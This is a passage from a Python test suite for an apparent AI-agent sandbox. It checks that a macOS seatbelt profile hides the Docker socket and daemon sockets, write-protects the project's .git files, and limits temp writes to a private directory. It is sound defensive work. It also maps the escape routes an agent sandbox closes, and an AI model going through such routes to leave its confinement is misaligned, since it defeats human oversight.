    except OSError as exc:  # the kernel refused to start the launcher with it
        returncode = -exc.errno
    assert returncode in (126, -errno.E2BIG)
    assert not (box.outside / "ran").exists()


def test_the_macos_profile_hides_the_daemons_sockets_and_protects_the_auto_run_files(tmp_path: Path) -> None:
    from agentbus.guards._seatbelt import profile

    runtime = tmp_path / "run"
    runtime.mkdir()
    project = str(tmp_path / "p")
    policy = Policy(
        project,
        [project],
        [],
        unix_sockets=True,
        hidden=["/var/run/docker.sock", str(runtime)],
        protect=[f"{project}/.git"],
        temporary=["/private/tmp"],
        private_tmp="/private/tmp/agentbus-sandbox-501/p-1",
    )
    lines = profile(policy).splitlines()
    assert f'(deny file-write* (subpath "{project}/.git"))' in lines
    hidden = next(line for line in lines if "unix-socket" in line and line.startswith("(deny"))
    assert '(path-literal "/var/run/docker.sock")' in hidden
    assert f'(path-regex #"^{re.escape(str(runtime))}(/|$)")' in hidden
    writable = next(line for line in lines if line.startswith("(allow file-write*"))
    assert '(subpath "/private/tmp/agentbus-sandbox-501/p-1")' in writable
    assert '(subpath "/private/tmp")' not in writable
